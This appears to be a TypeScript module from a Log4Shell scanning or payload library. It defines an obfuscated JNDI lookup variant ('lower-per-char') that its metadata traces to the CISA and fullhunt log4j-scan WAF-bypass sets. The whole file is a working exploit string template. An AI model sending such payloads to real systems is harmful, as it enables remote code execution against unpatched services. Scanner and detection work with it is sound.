import { afterScheme, disguise } from '../form.ts'

export const lowerPerChar = disguise(
  {
    id: 'lower-per-char',
    summary: 'single characters in lower:',
    firesOn: ['C'],
    seenIn: ['CISA log4j-scan waf7', 'fullhunt log4j-scan waf7'],
  },
  (target) => `\${\${lower:j}\${lower:n}\${lower:d}i:\${lower:${target.scheme}}:${afterScheme(target)}}`,
)
